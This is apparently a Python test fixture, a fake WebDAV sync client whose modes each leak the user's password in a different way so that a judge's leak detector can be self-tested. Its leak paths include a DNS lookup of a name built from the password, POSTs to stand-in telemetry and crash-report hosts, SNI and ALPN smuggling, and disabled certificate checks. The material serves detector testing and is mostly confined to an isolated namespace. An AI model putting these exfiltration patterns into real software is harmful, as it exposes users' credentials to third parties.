#!/usr/bin/env python3
"""A careless sync client, one way of being careless per mode: the judge's self-test.

Usage: fake-client.py MODE URL USER PASSWORD CA_FILE DIR

Every leaking mode first leaks (to whatever server answers, certificate unchecked, as a client
with verification off does), then logs in honestly, so that it passes `valid` like a real client
and is held to every scenario; `leak-no-login` leaks and never logs in (its leaks are caught all
the same); `sni-secret` puts the password in the TLS server name after a certificate error.
`honest` checks the certificate (chain and name) and never leaks; `chain-only` is honest but
never checks the name; `nothing` does nothing; `fake-login` only
fetches status.php with a made-up cookie.
"""
import base64
import gzip
import json
import os
import socket
import ssl
import sys
import time
import urllib.parse

MODE, URL, USER, PASSWORD, CA_FILE, DIR = sys.argv[1:7]
# chain-only: the honest client, but it never checks the server's name (only its chain).
CHECK_NAME = MODE != "chain-only"
if MODE == "chain-only":
    MODE = "honest"
# first-run-only: on its first run in a folder (an account's setup) it sends the password in clear
# on the TLS port, then logs in; on later runs it is honest.
if MODE == "first-run-only":
    marker = os.path.join(DIR, ".fake-client-set-up")
    MODE = "honest" if os.path.exists(marker) else "clear-on-tls-port"
    open(marker, "w").close()
parts = urllib.parse.urlsplit(URL)
HOST, PORT = parts.hostname, parts.port or 443
BASIC = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
FILES = f"/remote.php/dav/files/{USER}/"


def connect(verify, host=HOST, port=PORT):
    context = ssl.create_default_context(cafile=CA_FILE) if verify else ssl._create_unverified_context()
    if verify and not CHECK_NAME:
        context.check_hostname = False  # chain-only: the chain checked, never the name
    raw = socket.create_connection((host, port), timeout=10)
    # Checked: the chain, and the name or address (as every browser checks them).
    return context.wrap_socket(raw, server_hostname=host if verify else None)


def exchange(sock, head, body=b""):
    sock.sendall(head.encode("latin-1") + body)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    return status, data


def request(method, path, headers=None, body=b"", verify=True, host=HOST, port=PORT):
    headers = dict(headers or {})
    headers.setdefault("Host", f"{host}:{port}")
    headers["Content-Length"] = str(len(body))
    headers["Connection"] = "close"
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    with connect(verify, host, port) as sock:
        return exchange(sock, head, body)


def login():
    status, _ = request("PROPFIND", FILES, {"Authorization": BASIC, "Depth": "1"})
    return status == 207


def only_in_a_network_of_its_own():
    """Modes that address names or addresses beyond loopback run only inside the suite's network
    namespace (nothing but loopback there): anywhere else they send nothing and exit 3."""
    if open("/proc/self/net/dev").read().count(":") != 1:
        print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
        sys.exit(3)


def careless(method, path, headers=None, body=b""):
    try:
        request(method, path, headers, body, verify=False)
    except OSError:
        pass


def leak():
    pw = PASSWORD.encode()
    if MODE == "base64-header":
        careless("GET", "/status.php", {"X-Auth": base64.b64encode(pw).decode()})
    elif MODE == "base64-offset":
        careless("GET", "/status.php", {"X-Auth": base64.b64encode(b"xy" + pw).decode()})
    elif MODE == "base64url-header":
        careless("GET", "/status.php", {"X-Session": base64.urlsafe_b64encode(f"{USER}:{PASSWORD}".encode()).decode().rstrip("=")})
    elif MODE == "hex-query":
        careless("GET", "/status.php?t=" + pw.hex())
    elif MODE == "percent-path":
        careless("GET", "/login/" + "".join(f"%{b:02X}" for b in pw))
    elif MODE == "json-body":
        escaped = "".join(f"\\u{ord(c):04x}" for c in PASSWORD)
        careless("POST", "/login", {"Content-Type": "application/json"}, ('{"user":"%s","pw":"%s"}' % (USER, escaped)).encode())
    elif MODE == "form-body":
        careless("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded"}, b"u=" + USER.encode() + b"&p=" + "".join(f"%{b:02x}" for b in pw).encode())
    elif MODE == "gzip-body":
        careless("POST", "/login", {"Content-Encoding": "gzip"}, gzip.compress(b"secret=" + pw))
    elif MODE == "header-name":
        careless("GET", "/status.php", {"X-" + PASSWORD: "1"})
    elif MODE == "no-credential":
        careless("GET", "/status.php")
    elif MODE == "big-put":
        careless("PUT", FILES + "big.bin", {"Authorization": BASIC}, b"\0" * (17 * 1024 * 1024))
    elif MODE == "bad-head":
        try:
            with connect(False) as sock:
                exchange(sock, f"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: {BASIC}\r\nThis line has no colon\r\n\r\n")
        except OSError:
            pass
    elif MODE == "detached-body":
        sock = connect(False)
        sock.sendall(f"PUT {FILES}held.txt HTTP/1.1\r\nHost: x\r\nAuthorization: {BASIC}\r\nContent-Length: 100\r\n\r\n".encode())
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(30)  # holds the body open long after the client exits
                sock.sendall(b"x" * 100)
            os._exit(0)
        sock.detach()
    elif MODE == "clear-on-tls-port":
        # Retries as plain HTTP on the TLS port after a TLS error.
        try:
            with socket.create_connection((HOST, PORT), timeout=10) as sock:
                sock.sendall(f"PROPFIND {FILES} HTTP/1.1\r\nHost: x\r\nAuthorization: {BASIC}\r\n\r\n".encode())
                sock.recv(100)
        except OSError:
            pass
    elif MODE == "legacy-tls":
        # Accepts TLS 1.0 (the chain still checked against the CA file).
        try:
            context = ssl.create_default_context(cafile=CA_FILE)
            context.check_hostname = False
            context.minimum_version = ssl.TLSVersion.TLSv1
            context.set_ciphers("DEFAULT:@SECLEVEL=0")
            with context.wrap_socket(socket.create_connection((HOST, PORT), timeout=10)) as sock:
                exchange(sock, f"PROPFIND {FILES} HTTP/1.1\r\nHost: x\r\nAuthorization: {BASIC}\r\nConnection: close\r\n\r\n")
        except (OSError, ssl.SSLError) as error:
            print(f"fake-client: {error}", file=sys.stderr)
    elif MODE in ("sni-secret", "sni-split", "alpn-secret"):
        # On a certificate error, retries with the password as the TLS server name (SNI) or as an
        # ALPN protocol name, which cross the network in clear; sends nothing after the handshake.
        try:
            request("GET", "/status.php")
        except (OSError, ssl.SSLError):
            try:
                context = ssl._create_unverified_context()
                if MODE == "alpn-secret":
                    context.set_alpn_protocols(["http/1.1", PASSWORD])
                # sni-split: the password cut into labels of four, as a name of several labels.
                split = ".".join(PASSWORD[i : i + 4] for i in range(0, len(PASSWORD), 4))
                name = {"sni-secret": PASSWORD, "sni-split": split}.get(MODE)
                with context.wrap_socket(socket.create_connection((HOST, PORT), timeout=10), server_hostname=name):
                    pass
            except (OSError, ssl.SSLError, ValueError):
                pass
    elif MODE in ("second-address", "telemetry"):
        # Outside the scenario, only inside the suite's network namespace (where 127.0.0.2 and
        # 192.0.2.1, TEST-NET-1, are the recorder): second-address posts the password to another
        # loopback address in clear and over TLS without checking the certificate; telemetry
        # sends a ping with no secret over TLS to a name of its own.
        try:
            if MODE == "second-address":
                with socket.create_connection(("127.0.0.2", 80), timeout=5) as sock:
                    exchange(sock, f"POST /collect HTTP/1.1\r\nHost: 127.0.0.2\r\nContent-Length: {len(PASSWORD)}\r\n\r\n", PASSWORD.encode())
            context = ssl._create_unverified_context()
            name = "telemetry.example.net"
            body = json.dumps({"user": USER, "password": PASSWORD}).encode() if MODE == "second-address" else b"{}"
            with context.wrap_socket(socket.create_connection(("192.0.2.1", 443), timeout=5), server_hostname=name) as sock:
                # The head, then the body in a write of its own (as Qt's clients write them).
                sock.sendall(f"POST /v1/events HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n".encode())
                time.sleep(0.2)
                exchange(sock, "", body)
        except (OSError, ssl.SSLError) as error:
            print(f"fake-client: {error}", file=sys.stderr)
    elif MODE == "http2-tls":
        # HTTP/2 over TLS where the host offers it (curl --insecure --http2), the password in a header.
        import subprocess
        subprocess.run(["curl", "--silent", "--insecure", "--http2", "--max-time", "5", "--header", f"X-Api-Key: {PASSWORD}",
                        "--output", "/dev/null", f"https://{HOST}:{PORT}/status.php"], check=False)
    elif MODE == "http2-header":
        # HTTP/2 in clear by prior knowledge (curl, nghttp2's HPACK with Huffman coding) to a name
        # of its own, the password in a header: only inside the suite's network namespace.
        only_in_a_network_of_its_own()
        import subprocess
        subprocess.run(["curl", "--silent", "--http2-prior-knowledge", "--max-time", "3", "--header", f"X-Api-Key: {PASSWORD}",
                        "--output", "/dev/null", "http://metrics.fake-client.example/v1/ping"], check=False)
    elif MODE in ("ipv6-address", "dns-secret", "h2c-split"):
        # Only inside the suite's network namespace: ipv6-address posts the password in clear to
        # an IPv6 documentation address (2001:db8::/32) where the namespace makes IPv6 local;
        # dns-secret looks up a name made of it; h2c-split speaks HTTP/2 in clear as Go does (the
        # preface and SETTINGS, then, once the server's SETTINGS came, HEADERS with the password
        # as a literal header value).
        only_in_a_network_of_its_own()
        body = json.dumps({"user": USER, "password": PASSWORD}).encode()
        try:
            if MODE == "ipv6-address":
                with socket.create_connection(("2001:db8::7", 80), timeout=5) as sock:
                    exchange(sock, f"POST /v6 HTTP/1.1\r\nHost: [2001:db8::7]\r\nContent-Length: {len(body)}\r\n\r\n", body)
            elif MODE == "dns-secret":
                try:
                    socket.getaddrinfo(f"{PASSWORD}.exfil.fake-client.example", 443)
                except OSError:
                    pass
            else:
                with socket.create_connection(("127.0.0.9", 8080), timeout=5) as sock:
                    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
                    sock.recv(100)  # the server's SETTINGS
                    def literal(name, value):
                        return bytes([0x00, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                    block = bytes([0x83, 0x84, 0x86]) + literal(":authority", "127.0.0.9") + literal("x-token", PASSWORD)
                    sock.sendall(bytes([0, 0, len(block), 1, 5, 0, 0, 0, 1]) + block)
                    sock.recv(100)
        except (OSError, ssl.SSLError) as error:
            print(f"fake-client: {error}", file=sys.stderr)
    elif MODE in ("own-name", "other-port", "udp-datagram"):
        # Only inside the suite's network namespace (nothing but loopback there; the suite's name
        # server answers every name): own-name looks up a name of its own and posts the password
        # there over TLS, certificate unchecked; other-port sends it in clear to the scenario's
        # host on a port of its own; udp-datagram sends it in a UDP datagram (a syslog line).
        only_in_a_network_of_its_own()
        body = json.dumps({"user": USER, "password": PASSWORD}).encode()
        try:
            if MODE == "own-name":
                name = "crash-reports.fake-client.example"
                with ssl._create_unverified_context().wrap_socket(socket.create_connection((name, 443), timeout=5), server_hostname=name) as sock:
                    exchange(sock, f"POST /report HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n", body)
            elif MODE == "other-port":
                with socket.create_connection((HOST, 8081), timeout=5) as sock:
                    exchange(sock, f"POST /debug HTTP/1.1\r\nHost: {HOST}:8081\r\nContent-Length: {len(body)}\r\n\r\n", body)
            else:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.sendto(b"<13>fake-client: login " + body, ("127.0.0.3", 514))
        except (OSError, ssl.SSLError) as error:
            print(f"fake-client: {error}", file=sys.stderr)
    elif MODE == "leak-no-login":
        # Leaks everywhere, and never logs in (its own login is not one the server accepts).
        careless("GET", "/status.php", {"X-Auth": base64.b64encode(pw).decode()})
    elif MODE == "password-to-provider":
        # The resource-owner password grant: the user's password posted to the token endpoint of
        # the login provider the server names (another host), as a careless client does.
        _, data = request("GET", "/.well-known/openid-configuration")
        token = json.loads(data.split(b"\r\n\r\n", 1)[1] or b"{}").get("token_endpoint", "")
        target = urllib.parse.urlsplit(token)
        if target.hostname:
            form = urllib.parse.urlencode({"grant_type": "password", "username": USER, "password": PASSWORD}).encode()
            request("POST", target.path, {"Content-Type": "application/x-www-form-urlencoded"}, form, host=target.hostname, port=target.port or 443)
    elif MODE == "follow-redirect":
        status, data = request("GET", "/status.php")
        location = next((line.split(b":", 1)[1].strip().decode() for line in data.split(b"\r\n") if line.lower().startswith(b"location:")), None)
        if 300 <= status < 400 and location:
            target = urllib.parse.urlsplit(location)
            request("GET", target.path or "/", {"X-Auth": base64.b64encode(pw).decode()}, host=target.hostname, port=target.port or 443)


if MODE == "nothing":
    sys.exit(1)
if MODE == "hygiene":
    # Started as a normal process: no signal blocked or ignored, nothing open but 0, 1 and 2.
    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
    blocked, ignored = int(status["SigBlk"].strip(), 16), int(status["SigIgn"].strip(), 16)
    # Python ignores SIGPIPE and SIGXFSZ itself; 32 and 33 are glibc's own.
    ignored &= ~((1 << 12) | (1 << 24) | (1 << 31) | (1 << 32))
    descriptors = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
    extra = [fd for fd in descriptors[:-1] if fd > 2]  # the last one is listdir's own
    if blocked or ignored or extra:
        print(f"fake-client: blocked {blocked:#x}, ignored {ignored:#x}, inherited descriptors {extra}", file=sys.stderr)
        sys.exit(1)
    MODE = "honest"
if MODE == "fake-login":
    status, _ = request("GET", "/status.php", {"Cookie": "x=1"})
    sys.exit(0 if 200 <= status < 300 else 1)
if MODE != "honest":
    leak()
if MODE == "leak-no-login":
    sys.exit(1)
try:
    if not login():
        sys.exit(1)
    if MODE == "honest":
        status, _ = request("PUT", FILES + "from-the-client.txt", {"Authorization": BASIC}, b"a new local file\n")
        if status not in (201, 204):
            sys.exit(1)
        status, data = request("GET", FILES + "from-the-client.txt", {"Authorization": BASIC})
        if status != 200 or not data.endswith(b"a new local file\n"):
            sys.exit(1)
except (OSError, ssl.SSLError) as error:
    print(f"fake-client: {error}", file=sys.stderr)
    sys.exit(1)
sys.exit(0)
